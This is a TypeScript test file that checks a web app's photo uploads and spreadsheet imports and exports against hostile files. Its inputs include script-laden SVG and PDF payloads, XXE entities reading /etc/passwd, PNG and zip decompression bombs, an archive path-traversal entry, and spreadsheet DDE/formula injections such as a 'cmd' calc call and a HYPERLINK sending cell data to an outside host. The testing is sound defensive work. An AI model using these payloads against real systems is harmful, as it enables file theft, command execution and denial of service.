import { globSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCommand } from '../support/command.ts';
import { asOwner } from '../support/database.ts';
import { call, dataDir, inside, staff, Visitor } from '../support/http.ts';
import { makeZip } from '../support/zip.ts';
import { newToken } from './api.ts';
import { expectCalm } from './hostile.ts';

const HTML = '<html><script>alert(document.domain)</script><b id=hostile>';
const kept = () => globSync('files/**/*', { cwd: dataDir, withFileTypes: true }).filter((entry) => entry.isFile()).length;
const count = (table: string) => asOwner(dataDir, async (owner) => (await owner.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${table}`)).rows[0]!.n);

/** A PNG that claims a size and holds almost nothing: a few kilobytes that want gigabytes. */
function pngBomb(side: number): Buffer {
	const chunk = (type: string, data: Buffer) => {
		const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
		const length = Buffer.alloc(4);
		length.writeUInt32BE(data.length);
		const sum = Buffer.alloc(4);
		sum.writeUInt32BE(crc32(body));
		return Buffer.concat([length, body, sum]);
	};
	const head = Buffer.alloc(13);
	head.writeUInt32BE(side, 0);
	head.writeUInt32BE(side, 4);
	head.set([8, 6, 0, 0, 0], 8);
	return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', head), chunk('IDAT', deflateSync(Buffer.alloc(5_000_000), { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

let photo: Buffer;
beforeAll(async () => void (photo = await sharp({ create: { width: 64, height: 48, channels: 3, background: '#1f6b57' } }).jpeg().toBuffer()));

/** Tells a need with one photo, as the form does. */
async function tellWith(visitor: Visitor, bytes: Buffer, name: string, type: string): Promise<Response> {
	await visitor.post('/tell?/say', [['text', '小区门口的井盖坏了，晚上很危险']]);
	return visitor.post('/tell/details?/send', [['clientId', crypto.randomUUID()], ['text', '小区门口的井盖坏了，晚上很危险'], ['phone', `120${String(Math.floor(Math.random() * 1e8)).padStart(8, '0')}`], ['communityId', ''], ['photos[]', new File([new Uint8Array(bytes)], name, { type })]]);
}

describe('pictures', () => {
	test.each<[string, () => Buffer, string, string]>([
		['HTML that calls itself a picture', () => Buffer.from(HTML), 'x.jpg', 'image/jpeg'],
		['SVG with script', () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`), 'x.svg', 'image/svg+xml'],
		['SVG under another name', () => Buffer.from(`\n<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>`), 'x.png', 'image/png'],
		['a PDF named .jpg', () => Buffer.from('%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'), 'x.jpg', 'image/jpeg'],
		['a zip', () => makeZip([{ path: 'x', content: 'x' }]), 'x.jpg', 'image/jpeg'],
		['40,000 by 40,000 pixels in a few kilobytes', () => pngBomb(40_000), 'x.png', 'image/png'],
		['a picture cut off', () => photo.subarray(0, photo.length / 2), 'x.jpg', 'image/jpeg'],
		['noise after a magic number', () => Buffer.concat([Buffer.from('\xff\xd8\xff\xe0', 'latin1'), Buffer.from(HTML)]), 'x.jpg', 'image/jpeg']
	])('%s is refused, and nothing of it kept', async (what, bytes, name, type) => {
		const [files, cases] = [kept(), await count('requests.request')];
		const began = Date.now();
		const answer = await tellWith(new Visitor(), bytes(), name, type);
		await expectCalm(answer, what);
		expect(answer.status).toBe(422);
		expect(Date.now() - began).toBeLessThan(10_000);
		expect([kept(), await count('requests.request')]).toEqual([files, cases]);
	});

	test('a picture with a page and an archive behind it comes back as a picture and nothing else', async () => {
		const polyglot = Buffer.concat([photo, Buffer.from(HTML), makeZip([{ path: 'x.html', content: HTML }])]);
		const visitor = new Visitor();
		const answer = await tellWith(visitor, polyglot, '../../<b id=hostile>.html', 'text/html');
		expect(answer.status, await answer.clone().text()).toBe(303);
		const page = await visitor.page(inside(answer.headers.get('location')!));
		const href = /(?:src|href)="(\/case\/[^"]*\/files\/[^"?]*)/.exec(page.html)?.[1];
		expect(href, 'the page shows no photo').toBeDefined();
		expect(page.html).not.toMatch(/<b id=hostile/);
		for (const path of [href!, `${href}?thumb`]) {
			const file = await visitor.get(path);
			const bytes = Buffer.from(await file.arrayBuffer());
			expect(file.headers.get('content-type')).toBe('image/webp');
			expect(file.headers.get('x-content-type-options')).toBe('nosniff');
			expect(file.headers.get('content-security-policy')).toContain("default-src 'none'");
			expect(file.headers.get('content-disposition')).not.toMatch(/html|[<>]|\.\.[/\\]/);
			expect(bytes.toString('latin1')).not.toMatch(/script|hostile|PK\x03\x04/);
			expect(await sharp(bytes).metadata()).toMatchObject({ format: 'webp' });
		}
		// It is theirs alone.
		await expectCalm(await new Visitor().get(href!), 'a stranger');
		expect((await new Visitor().get(href!)).status).toBe(404);
	});
});

describe('tables', () => {
	const folder = mkdtempSync(join(tmpdir(), 'baiyun-hostile-'));
	afterAll(() => rmSync(folder, { recursive: true, force: true }));
	const sheet = (rows: string) => `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`;
	const workbook = (content: string | Buffer, more: Parameters<typeof makeZip>[0] = [], declare?: number) =>
		makeZip([
			{ path: '[Content_Types].xml', content: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>' },
			{ path: '_rels/.rels', content: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>' },
			{ path: 'xl/workbook.xml', content: '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>' },
			{ path: 'xl/_rels/workbook.xml.rels', content: '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>' },
			{ path: 'xl/worksheets/sheet1.xml', content, ...(declare !== undefined && { declare }) },
			...more
		]);
	const bombs: [string, () => Buffer][] = [
		['a zip bomb', () => workbook(sheet(' '.repeat(400_000_000)))],
		['a zip bomb that says it is small', () => workbook(sheet(' '.repeat(400_000_000)), [], 1000)],
		['entities within entities', () => workbook(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefghi'.split('').map((name, i) => `<!ENTITY ${name} "${`&${'abcdefgh'[i]};`.repeat(10)}">`).join('')}]><worksheet><sheetData><row><c t="inlineStr"><is><t>&i;</t></is></c></row></sheetData></worksheet>`)],
		['a file of this machine as an entity', () => workbook(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row><c t="inlineStr"><is><t>&a;</t></is></c></row></sheetData></worksheet>`)],
		['a path out of the archive', () => workbook(sheet(''), [{ path: '../../evil.js', content: 'x' }])],
		['no table at all', () => Buffer.from(HTML)],
		['half an archive', () => workbook(sheet('')).subarray(0, 400)]
	];

	test.each(bombs)('%s is refused by the import, in words and in memory that one has', async (what, make) => {
		const [before, file] = [await count('directory.service'), join(folder, 'x.xlsx')];
		writeFileSync(file, make());
		const { status, stdout, stderr } = await runCommand(dataDir, ['import', 'directory', file], { NODE_OPTIONS: '--max-old-space-size=400' });
		expect(status, stdout + stderr).toBe(1);
		expect(stdout + stderr).not.toMatch(/\bat \S+ \(|heap out of memory|root:/);
		expect(stderr.trim().length, what).toBeGreaterThan(5);
		expect(await count('directory.service')).toBe(before);
	});

	test.each(bombs)('%s is refused at the desk', async (what, make) => {
		const manager = await staff('zhoulan');
		const before = await count('directory.service');
		const answer = await manager.post('/desk/directory/import?/read', [['file', new File([new Uint8Array(make())], '../../x<b id=hostile>.xlsx')]]);
		await expectCalm(answer.clone(), what);
		const next = answer.headers.get('location');
		if (next) {
			const page = await manager.get(inside(next));
			const text = await expectCalm(page, `${what}, read`);
			expect(text).not.toMatch(/root:.*:0:0/);
			// What could not be read cannot be imported either.
			await expectCalm(await manager.post(`/desk/directory/import?/commit&${next.split('?')[1]}`, []), `${what}, imported`);
		}
		expect(await count('directory.service')).toBe(before);
	});

	test('what begins like a formula leaves as text', async () => {
		const formulas = ['=HYPERLINK("http://example.invalid?"&A1,"点我")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|x', '-2+3+cmd|x'];
		const token = await newToken('requests:submit');
		for (const text of formulas) {
			const answer = await call('/api/v1/requests', { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: JSON.stringify({ text, type: 'complaint', place: { address: text }, reporter: { name: text.slice(0, 40) } }) });
			expect(answer.status).toBe(201);
		}
		const service = ['机构名称', '服务名称', '服务说明', '需求类型'];
		const table = new ExcelJS.Workbook();
		table.addWorksheet('a').addRows([service, ['=1+1 服务社', '@SUM(1) 理发', '+1+1', '']]);
		writeFileSync(join(folder, 'formulas.xlsx'), Buffer.from(await table.xlsx.writeBuffer()));
		const imported = await runCommand(dataDir, ['import', 'directory', join(folder, 'formulas.xlsx')]);
		expect(imported.status, imported.stdout + imported.stderr).toBe(0);

		const manager = await staff('zhoulan');
		for (const path of ['/desk/requests/export.xlsx?queue=all', '/desk/directory/export.xlsx']) {
			const answer = await manager.get(path);
			expect(answer.status, path).toBe(200);
			const book = new ExcelJS.Workbook();
			await book.xlsx.load((await answer.arrayBuffer()) as never);
			let found = 0;
			for (const sheet of book.worksheets)
				sheet.eachRow((row) =>
					row.eachCell((cell) => {
						expect(cell.type, `${path} ${cell.address}: ${String(cell.value)}`).not.toBe(ExcelJS.ValueType.Formula);
						if (typeof cell.value === 'string' && /^'?[=+@-]./.test(cell.value)) found++;
					})
				);
			expect(found, `${path} holds none of them`).toBeGreaterThan(0);
		}
		const auditor = await staff('shenji');
		const csv = await (await auditor.get('/desk/admin/audit/export?format=csv')).text();
		for (const line of csv.split('\r\n')) for (const field of line.split(',')) expect(field).not.toMatch(/^"?[=+@\t]|^"?-\D/);
	});
});
